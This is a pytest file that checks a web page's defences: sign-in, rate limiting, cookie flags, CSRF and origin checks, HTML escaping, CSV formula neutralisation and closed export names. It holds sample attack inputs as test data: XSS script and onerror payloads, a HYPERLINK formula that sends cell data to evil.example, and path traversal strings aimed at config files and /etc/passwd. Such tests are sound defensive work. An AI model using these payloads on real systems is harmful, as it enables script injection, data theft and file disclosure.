"""The page refuses strangers, viewers' actions, forged tokens and odd export names, and escapes
whatever a vendor or a campaign name says."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from sqlalchemy import Engine, select

from connectors.errors import ConfigError
from sync.cli.serve_cmd import refuse_open_page
from sync.config import load_config
from sync.ledger import open_ledger
from sync.ledger.models import DeadLetterRow, TouchRow, UiAuditRow
from tests.sync.ui.conftest import Served, ui_config

_DEAD = DeadLetterRow.__table__  # type: ignore[attr-defined]
_TOUCH = TouchRow.__table__  # type: ignore[attr-defined]
_AUDIT = UiAuditRow.__table__  # type: ignore[attr-defined]
XSS_REASON = "salesforce refused: <script>alert('pwned')</script> for jane@example.com"
XSS_CAMPAIGN = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _letter(engine: Engine, key: str, reason: str, **extra: Any) -> int:
    with engine.begin() as conn:
        return int(
            conn.execute(
                _DEAD.insert()
                .values(pipeline="badges-to-crm", stage="push", record_key=key, code="BAD",
                        reason=reason, payload={"key": key, "note": reason}, **extra)
                .returning(_DEAD.c.id)
            ).scalar_one()
        )  # fmt: skip


@pytest.fixture
def page(tmp_path: Path, serve_page: Callable[..., Served]) -> tuple[Served, Engine]:
    config = ui_config(tmp_path, f"sqlite:///{tmp_path / 'ledger.db'}")
    engine = open_ledger(config.database_url())
    with engine.begin() as conn:
        conn.execute(
            _TOUCH.insert().values(
                key="badges:B1", source="badges", source_id="B1", kind="event_attended",
                occurred_at=datetime(2026, 6, 1, tzinfo=UTC), email="jane@example.com",
                campaign=XSS_CAMPAIGN,
            )
        )  # fmt: skip
    _letter(engine, "badges:B1", XSS_REASON)
    _letter(engine, "badges:B2", FORMULA)
    return serve_page(config, engine), engine


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found is not None, "no CSRF token on the page"
    return found.group(1)


def _status(engine: Engine, letter_id: int) -> str:
    with engine.connect() as conn:
        return str(conn.execute(select(_DEAD.c.status).where(_DEAD.c.id == letter_id)).scalar())


def test_without_a_session_pages_send_to_sign_in_and_actions_are_refused(page: Any) -> None:
    served, engine = page
    client = served.client()
    for path in ("/ui/", "/ui/errors", "/ui/letters/1", "/ui/runs", "/ui/export/runs.csv"):
        answer = client.get(path)
        assert answer.status_code == 303, path
        assert answer.headers["location"].startswith("/ui/sign-in?next=")
        assert "jane@example.com" not in answer.text
    refused = client.post("/ui/act", data={"action": "discard", "ids": "1", "csrf": "x"})
    assert refused.status_code == 401
    assert _status(engine, 1) == "open"


def test_a_wrong_password_is_refused_and_repeated_failures_are_rate_limited(page: Any) -> None:
    served, _engine = page
    client = served.client()
    for _ in range(5):
        wrong = client.post("/ui/sign-in", data={"user": "otto", "password": "guess"})
        assert wrong.status_code == 401
        assert "Wrong user name or password" in wrong.text
    blocked = client.post("/ui/sign-in", data={"user": "otto", "password": "operator-password-1"})
    assert blocked.status_code == 429
    assert int(blocked.headers["retry-after"]) > 0
    assert "closedloop_ui" not in blocked.headers.get("set-cookie", "")


def test_the_session_cookie_is_httponly_samesite_strict_and_scoped_to_the_page(
    page: Any,
) -> None:
    served, _engine = page
    answer = served.client().post(
        "/ui/sign-in", data={"user": "vera", "password": "viewer-password-1"}
    )
    cookie = answer.headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie
    assert "path=/ui/" in cookie
    assert "secure" not in cookie  # plain HTTP on loopback: a Secure cookie would never return


def test_behind_tls_the_cookie_is_secure(tmp_path: Path, serve_page: Any) -> None:
    config = ui_config(tmp_path, f"sqlite:///{tmp_path / 'l.db'}", secure_cookie="always")
    engine = open_ledger(config.database_url())
    served = serve_page(config, engine)
    answer = served.client().post(
        "/ui/sign-in", data={"user": "vera", "password": "viewer-password-1"}
    )
    assert "secure" in answer.headers["set-cookie"].lower()


def test_a_viewer_sees_the_errors_but_cannot_act(page: Any) -> None:
    served, engine = page
    vera = served.sign_in("vera")
    errors = vera.get("/ui/errors")
    assert errors.status_code == 200
    assert "Replay" not in errors.text
    token = _csrf(vera.get("/ui/").text)  # the sign-out form's token
    refused = vera.post("/ui/act", data={"action": "discard", "ids": "1", "csrf": token})
    assert refused.status_code == 403
    assert "viewers cannot act" in refused.text
    assert _status(engine, 1) == "open"


def test_an_action_with_a_forged_or_missing_csrf_token_or_from_another_site_is_refused(
    page: Any,
) -> None:
    served, engine = page
    otto = served.sign_in("otto")
    token = _csrf(otto.get("/ui/").text)
    for form, headers in (
        ({"action": "discard", "ids": "1", "csrf": "forged" + token[6:]}, {}),
        ({"action": "discard", "ids": "1"}, {}),
        ({"action": "discard", "ids": "1", "csrf": token}, {"Origin": "http://evil.example"}),
    ):
        refused = otto.post("/ui/act", data=form, headers=headers)
        assert refused.status_code == 403, form
        assert _status(engine, 1) == "open"
    done = otto.post("/ui/act", data={"action": "discard", "ids": "1", "csrf": token})
    assert done.status_code == 303
    assert _status(engine, 1) == "discarded"
    with engine.connect() as conn:
        (entry,) = conn.execute(select(_AUDIT)).all()[-1:]
    assert (entry.user, entry.action, entry.details["discarded"]) == ("otto", "discard", 1)
    overview = otto.get("/ui/").text
    assert "Discarded 1 record(s)." in overview  # the outcome, once
    assert "<td>otto</td><td>discard</td>" in overview  # the audit, on the page


def test_a_vendor_message_and_a_campaign_name_are_escaped_everywhere(page: Any) -> None:
    served, _engine = page
    otto = served.sign_in("otto")
    errors = otto.get("/ui/errors").text
    key = re.search(r'data-group="([0-9a-f]{16})"', errors)
    assert key is not None
    pages = [errors, otto.get(f"/ui/errors/{key.group(1)}").text, otto.get("/ui/letters/1").text]
    for html in pages:
        assert "<script>alert" not in html
        assert "<img src=x" not in html
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in pages[2]
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in pages[2]
    answer = otto.get("/ui/letters/1")
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert "unsafe-inline" not in answer.headers["content-security-policy"]


def test_export_names_are_a_closed_list_so_no_path_leads_out(page: Any, tmp_path: Path) -> None:
    served, _engine = page
    otto = served.sign_in("otto")
    for name in (
        "..%2F..%2Fclosedloop.yaml",
        "errors-..%2F..%2Fui-users.txt.csv",
        "runs.csv%2F..%2F..%2Fclosedloop.yaml",
        "%2Fetc%2Fpasswd",
        "errors-0123456789abcdef.csv%00.txt",
    ):
        answer = otto.get(httpx.URL(f"{served.url}/ui/export/{name}"))
        assert answer.status_code == 404, name
        assert "argon2" not in answer.text
        assert "ledger" not in answer.text
    runs = otto.get("/ui/export/runs.csv")
    assert runs.status_code == 200
    assert runs.headers["content-disposition"] == 'attachment; filename="runs.csv"'


def test_an_error_group_exports_as_csv_with_formulas_neutralised(page: Any) -> None:
    served, _engine = page
    otto = served.sign_in("otto")
    errors = otto.get("/ui/errors").text
    keys = re.findall(r'data-group="([0-9a-f]{16})"', errors)
    bodies = [otto.get(f"/ui/export/errors-{k}.csv").text for k in keys]
    rows = [row for body in bodies for row in csv.DictReader(io.StringIO(body))]
    assert {r["reason"] for r in rows} == {XSS_REASON, "'" + FORMULA}


def test_no_page_shows_a_password_hash_or_a_secret_a_vendor_echoed(
    page: Any, tmp_path: Path
) -> None:
    from sync.logs import register_secret

    served, engine = page
    secret = "tok-5ecret-echoed-by-the-vendor"
    register_secret(secret)
    echoed = _letter(engine, "badges:B3", f"refused: bad token {secret}")
    otto = served.sign_in("otto")
    shown = otto.get(f"/ui/letters/{echoed}").text
    assert "bad token" in shown
    assert secret not in shown
    for path in ("/ui/", "/ui/errors", "/ui/runs", "/ui/letters/1", "/ui/export/runs.csv"):
        assert "$argon2" not in otto.get(path).text


def test_serve_refuses_to_listen_beyond_loopback_while_no_one_can_sign_in(
    tmp_path: Path,
) -> None:
    path = tmp_path / "closedloop.yaml"
    path.write_text(yaml.safe_dump({"version": 1}), encoding="utf-8")
    bare = load_config(path)
    refuse_open_page(bare, "127.0.0.1")  # loopback: fine
    refuse_open_page(bare, "::1")
    with pytest.raises(ConfigError, match=r"ui\.users_file or ui\.proxy"):
        refuse_open_page(bare, "0.0.0.0")  # noqa: S104 - the address under test
    done = subprocess.run(
        [str(Path(sys.executable).parent / "closedloop"), "serve", "--host", "0.0.0.0",  # noqa: S104
         "--config", str(path)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert "no one can sign in" in done.stderr
    refuse_open_page(ui_config(tmp_path, f"sqlite:///{tmp_path / 'x.db'}"), "0.0.0.0")  # noqa: S104
    path.write_text(yaml.safe_dump({"version": 1, "ui": {"enabled": False}}), encoding="utf-8")
    refuse_open_page(load_config(path), "0.0.0.0")  # noqa: S104


def test_a_users_file_with_a_plain_password_is_refused_by_config_check(tmp_path: Path) -> None:
    (tmp_path / "users.txt").write_text("otto:operator:hunter2\n", encoding="utf-8")
    path = tmp_path / "closedloop.yaml"
    path.write_text(
        yaml.safe_dump({"version": 1, "ui": {"users_file": "users.txt"}}), encoding="utf-8"
    )
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    text = str(caught.value) + " ".join(i.message for i in caught.value.issues)
    assert "argon2 hash" in text
    assert "hunter2" not in text


def test_a_trusted_proxy_names_the_user_and_an_untrusted_one_is_ignored(
    tmp_path: Path, serve_page: Any
) -> None:
    trusted = ui_config(
        tmp_path, f"sqlite:///{tmp_path / 'p.db'}",
        proxy={"header": "X-Forwarded-User", "trusted": ["127.0.0.0/8"], "operators": ["dana"]},
    )  # fmt: skip
    engine = open_ledger(trusted.database_url())
    _letter(engine, "badges:B7", "refused")
    served = serve_page(trusted, engine)
    dana = served.client()
    dana.headers["X-Forwarded-User"] = "dana"
    overview = dana.get("/ui/")
    assert overview.status_code == 200
    assert "dana (operator)" in overview.text
    key = re.search(r'data-group="([0-9a-f]{16})"', dana.get("/ui/errors").text)
    assert key is not None
    token = _csrf(dana.get(f"/ui/errors/{key.group(1)}").text)
    done = dana.post("/ui/act", data={"action": "discard", "ids": "1", "csrf": token})
    assert done.status_code == 303
    assert _status(engine, 1) == "discarded"
    eve = served.client()
    eve.headers["X-Forwarded-User"] = "eve"
    assert "eve (viewer)" in eve.get("/ui/").text

    far = tmp_path / "far"
    far.mkdir()
    untrusted = ui_config(
        far, f"sqlite:///{far / 'p.db'}",
        proxy={"header": "X-Forwarded-User", "trusted": ["10.0.0.5"], "operators": ["dana"]},
    )  # fmt: skip
    other = serve_page(untrusted, open_ledger(untrusted.database_url())).client()
    other.headers["X-Forwarded-User"] = "dana"
    assert other.get("/ui/").status_code == 303  # to sign-in: the header alone proves nothing


def test_init_writes_the_ui_section_commented_out_and_it_checks_once_the_users_exist(
    tmp_path: Path,
) -> None:
    from typer.testing import CliRunner

    from sync.cli import app
    from tests.sync.ui.conftest import write_users

    target = tmp_path / "closedloop.yaml"
    assert CliRunner().invoke(app, ["init", str(target)]).exit_code == 0
    lines = target.read_text(encoding="utf-8").splitlines()
    start = lines.index("# ui:")
    end = start
    while lines[end].startswith("# "):
        lines[end] = lines[end][2:]
        end += 1
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    (tmp_path / ".closedloop" / "sandbox-ca.pem").write_text("a CA the sandbox writes\n")
    with pytest.raises(ConfigError) as missing:
        load_config(target)
    assert "file not found: '.closedloop/ui-users.txt'" in str(missing.value.issues)
    (tmp_path / ".closedloop" / "ui-users.txt").write_text(
        write_users(tmp_path).read_text(encoding="utf-8"), encoding="utf-8"
    )
    loaded = load_config(target)
    assert sorted(loaded.ui.user_table()) == ["otto", "vera"]
    assert "$argon2" not in str(loaded.display())


def test_closedloop_serve_mounts_the_page_behind_sign_in(tmp_path: Path) -> None:
    import signal
    import time

    from sandbox.core import free_port

    config = ui_config(tmp_path, f"sqlite:///{tmp_path / 'serve.db'}")
    port = free_port()
    process = subprocess.Popen(
        [str(Path(sys.executable).parent / "closedloop"), "serve", "--port", str(port),
         "--config", str(config.path)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=5) as client:
            deadline = time.monotonic() + 60
            while True:
                try:
                    if client.get("/healthz").status_code == 200:
                        break
                except httpx.TransportError:
                    pass
                assert time.monotonic() < deadline, "serve did not start"
                time.sleep(0.2)
            answer = client.get("/ui/")
            assert answer.status_code == 303
            assert answer.headers["location"].startswith("/ui/sign-in")
            signed = client.post(
                "/ui/sign-in", data={"user": "vera", "password": "viewer-password-1"}
            )
            assert signed.status_code == 303
            assert "vera (viewer)" in client.get("/ui/").text
    finally:
        process.send_signal(signal.SIGTERM)
        _out, err = process.communicate(timeout=60)
    assert process.returncode == 0, err
    assert "sync health page: /ui/" in err
